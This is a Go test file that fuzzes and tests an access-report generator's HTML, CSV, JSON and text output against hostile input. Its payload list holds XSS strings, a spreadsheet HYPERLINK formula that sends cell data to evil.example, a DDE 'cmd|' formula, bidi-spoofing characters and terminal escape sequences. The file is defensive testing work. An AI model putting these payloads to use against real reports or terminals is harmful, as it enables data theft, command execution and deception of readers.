package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"postern/internal/verify"
	"postern/recorder/index"
)

// hostile is what somebody might put into a reason, a command or the name of a file.
var hostile = []string{
	`</td></tr></table><script>document.title='owned'</script>`,
	`"><img src=x onerror="document.title='owned'">`,
	`{{.Proof}} ${7*7} <!-- -->`,
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", " =1+1", "\t=1", "\r\n=1", "\uff1d1+1", `"=1`, "'=1", "%0A=1", "|calc", "\u00a0=1", "\u200b=1", "\ufeff=1",
	"abc\u202egnp.exe", "\u2066hidden\u2069", "a\u200bb", "\ufeff",
	"\x1b]52;c;aGVsbG8=\x07", "\x1b[2J\x1b[H", "\x9b31m", "two\nlines\r\n\x00", "\xff\xfe", "a,b;c\"d", "\u2028\u2029", "\U000e0041tag", strings.Repeat("wide ", 400), strings.Repeat("x", 5000),
}

// poisoned is a report with all of that everywhere that somebody else has a say in.
func poisoned(t *testing.T) *Report {
	b := newBook(t)
	for i, text := range hostile {
		id := fmt.Sprintf("%03d", i)
		b.grant(t, "R-"+id, text, "root"+text+"@host"+text, text, "bob"+text)
		b.open(t, "S-"+id, "R-"+id, text, "root"+text+"@host"+text)
		b.pass(time.Minute)
		b.end(t, "S-"+id, text)
	}
	r := b.month()
	for i, text := range hostile {
		s := r.Session(fmt.Sprintf("S-%03d", i))
		r.Take(s, []index.Entry{{
			Commands: []index.Command{{Text: text}, {Text: text, Refused: true, Seen: true}},
			Files:    []index.File{{Operation: "read", Path: text, SHA256: text, Status: text, Protocol: text}, {Operation: text, Path: text, To: text, Denied: true}},
			Forwards: []index.Forward{{Kind: text, To: text, From: text, Why: text}, {Channel: 1, Kind: text, To: text, Denied: true}},
			Marks:    []index.Mark{{At: time.Second, Kind: "denied", Text: text}, {At: time.Second, Kind: "note", Text: text}},
		}})
		s.Recording.Problem, s.Client, s.Bastion = text, text, text
	}
	r.By, r.Reason, r.User, r.Host, r.CA = hostile[0], hostile[0], hostile[1], hostile[3], hostile[0]
	r.Proof.Failures = []verify.Failure{{Leaf: 1, Text: hostile[0]}}
	r.Total()
	r.Limits = hostile
	return r
}

// shows finds characters that a person would not see for what they are.
func shows(t *testing.T, what, text string) {
	t.Helper()
	for i, r := range text {
		if r != '\n' && (!unicode.IsPrint(r) || r == utf8.RuneError && text[i] != 0xef) {
			t.Errorf("%s: character %q in %q", what, r, text[max(0, i-20):min(len(text), i+20)])
			return
		}
	}
}

func TestHostileText(t *testing.T) {
	var out bytes.Buffer
	if err := poisoned(t).Text(&out); err != nil {
		t.Fatal(err)
	}
	shows(t, "text", out.String())
	narrow(t, out.String())
}

// A page from all of that has no element and no attribute that a page of ours does not have.
func TestHostilePage(t *testing.T) {
	var good, bad bytes.Buffer
	if err := full(t, newBook(t)).HTML(&good); err != nil {
		t.Fatal(err)
	}
	if err := poisoned(t).HTML(&bad); err != nil {
		t.Fatal(err)
	}
	shows(t, "page", bad.String())
	allowed := elements(t, good.String())
	for _, more := range []string{"strong class", "ol class", "li", "li class", "tr class", "span class", "ul class", "b", "article class", "article id", "i", "div", "small", "code"} {
		allowed[more] = true
	}
	for name := range elements(t, bad.String()) {
		if !allowed[name] {
			t.Errorf("the page has %s", name)
		}
	}
	if n := strings.Count(bad.String(), "<style"); n != 1 {
		t.Errorf("%d styles", n)
	}
	if regexp.MustCompile(`(?i)(src|href|action|style)\s*=\s*"?[^"#]*(http|javascript|data):`).MatchString(bad.String()) {
		t.Error("the page refers to something outside of it")
	}
}

// elements are the names of elements in a page, and of each attribute that they have.
func elements(t *testing.T, page string) map[string]bool {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(page))
	d.Strict, d.AutoClose, d.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
	found := map[string]bool{}
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if e, ok := token.(xml.StartElement); ok {
			found[e.Name.Local] = true
			for _, a := range e.Attr {
				found[e.Name.Local+" "+a.Name.Local] = true
			}
		}
	}
	return found
}

// No cell is a formula, in any program that skips what programs are known to skip, and a row is a row.
func TestHostileTables(t *testing.T) {
	r := poisoned(t)
	for _, table := range Tables {
		var out bytes.Buffer
		if err := r.CSV(&out, table); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
		if err != nil || len(rows) < len(hostile) {
			t.Fatalf("%s: %d rows, %v", table, len(rows), err)
		}
		if bytes.Contains(bytes.ReplaceAll(out.Bytes(), []byte("\r\n"), nil), []byte("\n")) {
			t.Errorf("%s: a line in the middle of a cell", table)
		}
		for _, row := range rows {
			for _, cell := range row {
				shows(t, table, cell)
				if first := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || r == '"' }); first != "" && strings.ContainsRune("=+-@\uff1d\uff0b\uff0d\uff20", []rune(first)[0]) {
					t.Errorf("%s: cell %q", table, cell)
				}
			}
		}
	}
	if r.CSV(&bytes.Buffer{}, "moons") == nil {
		t.Error("a table of moons")
	}
}

// JSON means exactly what was said, and shows a terminal nothing.
func TestHostileJSON(t *testing.T) {
	r := poisoned(t)
	var out bytes.Buffer
	if err := r.JSON(&out); err != nil {
		t.Fatal(err)
	}
	shows(t, "JSON", out.String())
	var back Report
	if err := json.Unmarshal(out.Bytes(), &back); err != nil {
		t.Fatal(err)
	}
	for i, text := range hostile {
		want := strings.ReplaceAll(strings.ReplaceAll(text, "\xff\xfe", "\ufffd\ufffd"), "\x9b", "\ufffd")
		if got := back.Session(fmt.Sprintf("S-%03d", i)).Commands[0].Text; got != want {
			t.Errorf("%q came back as %q", want, got)
		}
	}
}

func FuzzVisible(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		shown := Visible(text)
		shows(t, "visible", shown)
		if strings.Contains(shown, "\n") || Visible(shown) != shown {
			t.Errorf("%q is shown as %q", text, shown)
		}
		if page := string(visible(text)); strings.ContainsAny(regexp.MustCompile(`<span class="hidden">|</span>`).ReplaceAllString(page, ""), "<>") {
			t.Errorf("%q is %q in a page", text, page)
		}
		if c := cell(text); c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
			t.Errorf("%q is the cell %q", text, c)
		}
		if doc, err := json.Marshal(text); err == nil {
			var back, want string
			if json.Unmarshal(Plain(doc), &back) != nil || json.Unmarshal(doc, &want) != nil || back != want {
				t.Errorf("%q came back as %q", want, back)
			}
		}
	})
}

// A real browser runs nothing, loads nothing, and prints pages with their heads.
func TestInABrowser(t *testing.T) {
	t.Parallel()
	browser := ""
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if path, err := exec.LookPath(name); err == nil && browser == "" {
			browser = path
		}
	}
	if browser == "" {
		t.Fatal("no chromium; install it with: sudo apt-get install chromium")
	}
	dir := t.TempDir()
	page := filepath.Join(dir, "report.html")
	var out bytes.Buffer
	if err := poisoned(t).HTML(&out); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(page, out.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	run := func(args ...string) string {
		args = append([]string{"--headless", "--no-sandbox", "--disable-gpu", "--user-data-dir=" + dir + "/profile", "--enable-logging=stderr"}, args...)
		cmd := exec.Command(browser, append(args, "file://"+page)...)
		var said bytes.Buffer
		cmd.Stderr = &said
		b, err := cmd.Output()
		if err != nil {
			t.Fatalf("%s: %v\n%s", browser, err, said.String())
		}
		for line := range strings.Lines(said.String()) {
			if strings.Contains(line, "CONSOLE") {
				t.Errorf("the browser says: %s", line)
			}
		}
		return string(b)
	}
	dom := run("--dump-dom")
	if strings.Contains(dom, "<title>owned") || !strings.Contains(dom, "<title>Access report 2026-10-01 to 2026-11-01</title>") {
		t.Errorf("the title is another one: %.300s", dom)
	}
	pdf := filepath.Join(dir, "report.pdf")
	run("--no-pdf-header-footer", "--print-to-pdf="+pdf)
	b, err := os.ReadFile(pdf)
	if pages := len(regexp.MustCompile(`/Type ?/Page\b`).FindAll(b, -1)); err != nil || pages < 5 {
		t.Errorf("%d pages printed: %v", pages, err)
	}
}
